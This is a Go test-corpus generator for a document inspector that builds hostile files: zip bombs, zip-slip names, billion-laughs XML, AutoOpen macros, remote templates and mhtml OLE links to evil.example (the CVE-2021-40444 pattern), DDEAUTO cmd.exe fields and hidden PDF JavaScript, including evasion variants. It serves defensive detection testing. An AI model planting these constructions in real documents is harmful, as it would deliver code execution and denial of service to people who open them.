// Package hostile builds, in memory and deterministically, one file for
// every hostile class FG Desk must flag (zip bombs, size lies, zip-slip
// names, DOCTYPEs, macros, external templates, DDE, encrypted packages,
// PDF JavaScript, ...), and the small building blocks they are made of: a
// zip writer that lets headers lie, a 1 GiB deflate stream that costs a
// megabyte, a minimal OLE compound file writer (CFB), a VBA project
// writer (MS-OVBA compression) and a PDF writer (with object and
// cross-reference streams).
//
// Each class is a function returning (name, bytes); All lists them with
// the facts inspect is expected to report. Nothing here reads files or
// uses the clock or randomness, so the same call returns the same bytes.
// The package is for tests, benchmarks and the test-corpus generator; the
// application never imports it.
package hostile

import (
	"bytes"
	"fmt"

	"github.com/fgdesk/fgdesk/app/internal/contribution"
)

// Case is one hostile class.
type Case struct {
	// Class is a short stable identifier, e.g. "zip-bomb".
	Class string
	// Build returns the file's suggested name and its bytes.
	Build func() (name string, data []byte)
	// Expect says, for people, what inspect should report.
	Expect string
}

// All returns every hostile class, in a fixed order.
func All() []Case {
	return append([]Case{
		{"zip-bomb", ZipBomb, "Problem zip-bomb (document.xml inflates to 1 GiB)"},
		{"ratio-bomb", RatioBomb, "Problem zip-bomb (16 MiB of zeros, ratio ~1000:1)"},
		{"size-lie", SizeLie, "Problem size-lie (header says 4 KiB, inflates to 1 GiB)"},
		{"many-entries", ManyEntries, "Problem too-many (100,000 entries)"},
		{"zip-slip", ZipSlip, "Problems unsafe-name for ../, absolute and backslash names"},
		{"duplicate", DuplicateDocument, "Problems duplicate (word/document.xml twice, and in other case)"},
		{"doctype", Doctype, "Problem doctype (billion laughs in document.xml)"},
		{"deep-nesting", DeepNesting, "Problem depth (200,000 nested tables)"},
		{"docm", Docm, "Kind docm; Macros; AutoExec AutoOpen"},
		{"macro-docx", MacroDocx, "Kind docx; Macros (vbaProject.bin)"},
		{"renamed-vba", RenamedVBA, "Macros (OLE compound file at word/media/image1.png); AutoExec AutoOpen"},
		{"docm-in-zip", DocmInZip, "Kind zip; Embedded docm with Macros"},
		{"remote-template", RemoteTemplate, "External attachedTemplate http://..."},
		{"mhtml-object", MHTMLObject, "External oleObject mhtml:...; OLEObjects"},
		{"dde-fldsimple", DDEFldSimple, "DDE (DDEAUTO in w:fldSimple)"},
		{"dde-split", DDESplit, "DDE (DDEAUTO split across runs of w:instrText)"},
		{"encrypted", EncryptedOOXML, "Kind encrypted-ooxml; Encrypted"},
		{"rtf-as-doc", RTFAsDoc, "Kind rtf (named .doc)"},
		{"pdf-js", PDFJavaScript, "PDF Names JavaScript, JS, OpenAction"},
		{"pdf-hex-js", PDFHexJS, "PDF Names JavaScript, JS from /J#61vaScript, /J#53"},
		{"pdf-objstm-js", PDFObjStmJS, "PDF Structural JavaScript@obj (raw count 0)"},
		{"doc-macros", LegacyDocMacros, "Kind doc; Macros (Macros/VBA); AutoExec AutoOpen"},
	}, realWorld()...)
}

// name returns the corpus file name of hostile file n (09nn).
func name(n int, ext string) string { return fmt.Sprintf("innovation-i-%04d%s", 900+n, ext) }

// doc returns a clean document numbered like the file.
func doc(n int) *Doc {
	return &Doc{Model: contribution.Model{Number: fmt.Sprintf("%04d", 900+n)}}
}

// replace returns parts with the named part's data replaced.
func replace(parts []Part, name string, data []byte) []Part {
	for i := range parts {
		if parts[i].Name == name {
			parts[i].Data = data
		}
	}
	return parts
}

func without(parts []Part, name string) []Part {
	var out []Part
	for _, p := range parts {
		if p.Name != name {
			out = append(out, p)
		}
	}
	return out
}

// bigDocument returns a deflated word/document.xml that is well-formed
// XML holding one paragraph of 1 GiB of spaces, and its CRC.
func bigDocument() ([]byte, uint32, int64) {
	prefix := []byte(`<?xml version="1.0" encoding="UTF-8" standalone="yes"?>` + "\n" +
		`<w:document xmlns:w="` + nsW + `"><w:body><w:p><w:r><w:t xml:space="preserve">`)
	suffix := []byte(`</w:t></w:r></w:p></w:body></w:document>`)
	stream, crc := RunDeflate(prefix, ' ', 1<<30, suffix)
	return stream, crc, int64(len(prefix)+len(suffix)) + 1<<30
}

// ZipBomb is a .docx whose word/document.xml is well-formed XML inflating
// to 1 GiB (honest header; the file is about 1 MiB).
func ZipBomb() (string, []byte) {
	parts := without(doc(1).Parts(), "word/document.xml")
	stream, crc, size := bigDocument()
	return name(1, ".docx"), ZipRaw(parts, RawEntry{Name: "word/document.xml", Method: 8, Compressed: stream, CRC32: crc, UncompressedSize: uint64(size)})
}

// SizeLie is a .docx whose word/document.xml header declares 4 KiB but
// inflates to 1 GiB of well-formed XML: a reader that trusts the header is
// fooled.
func SizeLie() (string, []byte) {
	parts := without(doc(3).Parts(), "word/document.xml")
	stream, crc, _ := bigDocument()
	return name(3, ".docx"), ZipRaw(parts, RawEntry{Name: "word/document.xml", Method: 8, Compressed: stream, CRC32: crc, UncompressedSize: 4096})
}

// RatioBomb is a .docx with an "image" of 16 MiB of zeros: under the part
// limit, but inflating about a thousand times its size.
func RatioBomb() (string, []byte) {
	d := doc(2)
	d.Extra = []Part{{Name: "word/media/image1.png", Data: make([]byte, 16<<20)}}
	return name(2, ".docx"), d.Bytes()
}

// ManyEntries is a .docx with 100,000 (empty, stored) entries.
func ManyEntries() (string, []byte) {
	parts := doc(4).Parts()
	for i := range 100_000 {
		parts = append(parts, Part{Name: fmt.Sprintf("x/%05d", i), Store: true})
	}
	return name(4, ".docx"), Zip(parts...)
}

// ZipSlip is a .docx with entries named "../../evil.txt", "/tmp/evil.txt"
// and `word\evil.xml`.
func ZipSlip() (string, []byte) {
	d := doc(5)
	d.Extra = []Part{
		{Name: "../../evil.txt", Data: []byte("zip slip")},
		{Name: "/tmp/evil.txt", Data: []byte("absolute")},
		{Name: `word\evil.xml`, Data: []byte("<x/>")},
	}
	return name(5, ".docx"), d.Bytes()
}

// DuplicateDocument is a .docx with word/document.xml twice (the second a
// different document) and once more as "Word/Document.XML".
func DuplicateDocument() (string, []byte) {
	d := doc(6)
	other := doc(6)
	other.Model.Title = "A different document hiding behind the first"
	d.Extra = []Part{
		{Name: "word/document.xml", Data: []byte(other.DocumentXML())},
		{Name: "Word/Document.XML", Data: []byte(other.DocumentXML())},
	}
	return name(6, ".docx"), d.Bytes()
}

// BillionLaughs is the classic entity-expansion document.
const BillionLaughs = `<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<w:document xmlns:w="` + nsW + `"><w:body><w:p><w:r><w:t>&lol9;</w:t></w:r></w:p></w:body></w:document>`

// Doctype is a .docx whose word/document.xml carries the billion laughs.
func Doctype() (string, []byte) {
	parts := replace(doc(7).Parts(), "word/document.xml", []byte(BillionLaughs))
	return name(7, ".docx"), Zip(parts...)
}

// NestedTablesXML returns a document.xml with n tables nested in one
// another. A deterministic two-hex-digit rsid on each row keeps the
// compression ratio under 100:1, so the depth limit, not the ratio,
// catches it.
func NestedTablesXML(n int) []byte {
	var b bytes.Buffer
	b.WriteString(`<?xml version="1.0" encoding="UTF-8" standalone="yes"?>` + "\n<w:document xmlns:w=\"" + nsW + "\"><w:body>")
	x := uint32(2463534242)
	for range n {
		x ^= x << 13
		x ^= x >> 17
		x ^= x << 5
		fmt.Fprintf(&b, `<w:tbl><w:tr w:rsidR="%02X"><w:tc>`, x&0xff)
	}
	b.WriteString("<w:p/>")
	for range n {
		b.WriteString("</w:tc></w:tr></w:tbl>")
	}
	b.WriteString("</w:body></w:document>")
	return b.Bytes()
}

// DeepNesting is a .docx with 200,000 tables nested in one another.
func DeepNesting() (string, []byte) {
	parts := replace(doc(8).Parts(), "word/document.xml", NestedTablesXML(200_000))
	return name(8, ".docx"), Zip(parts...)
}

// Docm is a macro-enabled Word document with an AutoOpen macro.
func Docm() (string, []byte) {
	d := doc(9)
	d.MacroEnabled = true
	d.VBA = []Module{AutoOpenModule}
	return name(9, ".docm"), d.Bytes()
}

// MacroDocx is a .docx (plain content type) that still carries a
// vbaProject.bin.
func MacroDocx() (string, []byte) {
	d := doc(10)
	d.VBA = []Module{PlainModule}
	return name(10, ".docx"), d.Bytes()
}

// RenamedVBA is a .docx carrying a VBA project (with AutoOpen) disguised
// as word/media/image1.png.
func RenamedVBA() (string, []byte) {
	d := doc(11)
	d.Extra = []Part{{Name: "word/media/image1.png", Data: VBAProject(AutoOpenModule)}}
	d.DocRels = []Rel{{ID: "rIdImg", Type: relNS + "image", Target: "media/image1.png"}}
	return name(11, ".docx"), d.Bytes()
}

// DocmInZip is a zip archive holding a macro-enabled Word document.
func DocmInZip() (string, []byte) {
	d := doc(12)
	d.MacroEnabled = true
	d.VBA = []Module{AutoOpenModule}
	return name(12, ".zip"), Zip(
		Part{Name: "readme.txt", Data: []byte("Our contribution is inside.\n")},
		Part{Name: name(12, ".docm"), Data: d.Bytes()},
	)
}

// RemoteTemplate is a .docx whose settings attach a template fetched from
// a web server when Word opens the file.
func RemoteTemplate() (string, []byte) {
	d := doc(13)
	d.SettingsRels = []Rel{{ID: "rIdTmpl", Type: RelAttTmpl, Target: "http://evil.example/templates/fg.dotm", External: true}}
	return name(13, ".docx"), d.Bytes()
}

// MHTMLObject is a .docx with an OLE object linked through an mhtml: URL
// (the CVE-2021-40444 pattern).
func MHTMLObject() (string, []byte) {
	d := doc(14)
	d.DocRels = []Rel{{ID: "rIdOle", Type: RelOLE, Target: "mhtml:http://evil.example/x.html!x-usc:http://evil.example/x.html", External: true}}
	d.BodyXML = `<w:p><w:r><w:object><v:shape id="_x0000_i1025" style="width:1pt;height:1pt"/>` +
		`<o:OLEObject Type="Link" ProgID="htmlfile" ShapeID="_x0000_i1025" DrawAspect="Content" r:id="rIdOle" UpdateMode="OnCall"/></w:object></w:r></w:p>`
	return name(14, ".docx"), d.Bytes()
}

// DDEFldSimple is a .docx with a DDEAUTO field in a w:fldSimple.
func DDEFldSimple() (string, []byte) {
	d := doc(15)
	d.BodyXML = `<w:p><w:fldSimple w:instr=" DDEAUTO c:\\windows\\system32\\cmd.exe &quot;/k calc.exe&quot; "><w:r><w:t>update</w:t></w:r></w:fldSimple></w:p>`
	return name(15, ".docx"), d.Bytes()
}

// DDESplit is a .docx with a complex DDEAUTO field whose instruction is
// split across runs, in mixed case ("dD" + "eAuTo c:\...").
func DDESplit() (string, []byte) {
	d := doc(16)
	d.BodyXML = `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>` +
		`<w:r><w:instrText xml:space="preserve"> dD</w:instrText></w:r>` +
		`<w:r><w:instrText xml:space="preserve">eAuTo c:\\windows\\system32\\cmd.exe </w:instrText></w:r>` +
		`<w:r><w:instrText xml:space="preserve">"/k calc.exe"</w:instrText></w:r>` +
		`<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>result</w:t></w:r>` +
		`<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`
	return name(16, ".docx"), d.Bytes()
}

// EncryptedInfo is the start of an agile EncryptionInfo stream.
var EncryptedInfo = append([]byte{0x04, 0x00, 0x04, 0x00, 0x40, 0x00, 0x00, 0x00},
	[]byte(`<?xml version="1.0" encoding="UTF-8" standalone="yes"?><encryption xmlns="http://schemas.microsoft.com/office/2006/encryption"><keyData saltSize="16" blockSize="16" keyBits="256" hashSize="64" cipherAlgorithm="AES" cipherChaining="ChainingModeCBC" hashAlgorithm="SHA512" saltValue="AAAAAAAAAAAAAAAAAAAAAA=="/></encryption>`)...)

// EncryptedOOXML is a password-protected .docx: an OLE compound file with
// EncryptionInfo and EncryptedPackage streams.
func EncryptedOOXML() (string, []byte) {
	pkg := make([]byte, 8+8192)
	pkg[0] = 0x00
	pkg[1] = 0x20 // stream size 8192, little endian
	x := uint32(7)
	for i := 8; i < len(pkg); i++ {
		x = x*1664525 + 1013904223
		pkg[i] = byte(x >> 24)
	}
	return name(17, ".docx"), CFB(
		Stream("EncryptionInfo", EncryptedInfo),
		Stream("EncryptedPackage", pkg),
		Storage("\x06DataSpaces", Stream("Version", []byte{0x3C, 0, 0, 0})),
	)
}

// RTFAsDoc is an RTF document named .doc.
func RTFAsDoc() (string, []byte) {
	return name(18, ".doc"), []byte(`{\rtf1\ansi\deff0{\fonttbl{\f0 Times New Roman;}}` + "\n" +
		`\pard innovation-i-0918\par Source: Example\par Title: An RTF file named .doc\par}` + "\n")
}

// PDFJavaScript is a PDF that runs JavaScript when opened.
func PDFJavaScript() (string, []byte) {
	return name(19, ".pdf"), PDF(
		"<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>",
		"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
		pdfPage, pdfContent,
		"<< /Type /Action /S /JavaScript /JS (app.alert\\('FG'\\);) >>",
	)
}

// PDFHexJS is PDFJavaScript with the names hex-escaped (/J#61vaScript,
// /J#53, /Open#41ction), which a naive byte search misses.
func PDFHexJS() (string, []byte) {
	return name(20, ".pdf"), PDF(
		"<< /Type /Catalog /Pages 2 0 R /Open#41ction 5 0 R >>",
		"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
		pdfPage, pdfContent,
		"<< /Type /Action /S /J#61vaScript /J#53 (app.alert\\('FG'\\);) >>",
	)
}

// PDFObjStmJS is a PDF whose catalog and JavaScript action live inside a
// compressed object stream: a raw scan sees no /JavaScript at all.
func PDFObjStmJS() (string, []byte) {
	return name(21, ".pdf"), PDFWithObjStm([]string{
		"<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>",
		"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
		pdfPage, pdfContent,
		"<< /Type /Action /S /JavaScript /JS (app.alert\\('FG'\\);) >>",
	}, map[int]bool{1: true, 5: true})
}

// WordDocumentStream returns a minimal Word 97 FIB: the magic, version and
// the fEncrypted flag when encrypted is true.
func WordDocumentStream(encrypted bool) []byte {
	b := make([]byte, 4096)
	b[0], b[1] = 0xEC, 0xA5 // wIdent
	b[2], b[3] = 0xC1, 0x00 // nFib
	if encrypted {
		b[11] |= 0x01 // fEncrypted (bit 8 of the flags word at offset 10)
	}
	return b
}

// SummaryInformation returns a \x05SummaryInformation property set
// stream with a title and an author.
func SummaryInformation(title, author string) []byte {
	return propertySet(map[uint32]string{2: title, 4: author, 8: author})
}

// LegacyDocMacros is a Word 97-2003 .doc with an AutoOpen macro in its
// Macros/VBA storage.
func LegacyDocMacros() (string, []byte) {
	vba, project := VBAStorage(AutoOpenModule)
	w := &Word97{Body: doc(22).HeaderParas(), Extra: []*Node{Storage("ObjectPool"), Storage("Macros", vba, project)}}
	return name(22, ".doc"), w.Bytes()
}

// Contribution returns a clean hand-built contribution numbered nnnn with
// the header table, body, header and footer text.
func Contribution(number string) (string, []byte) {
	d := &Doc{Model: contribution.Model{Number: number}, HeaderText: "innovation-i-" + number, FooterText: "Attention: This is not a publication made available to the public."}
	return "innovation-i-" + number + ".docx", d.Bytes()
}
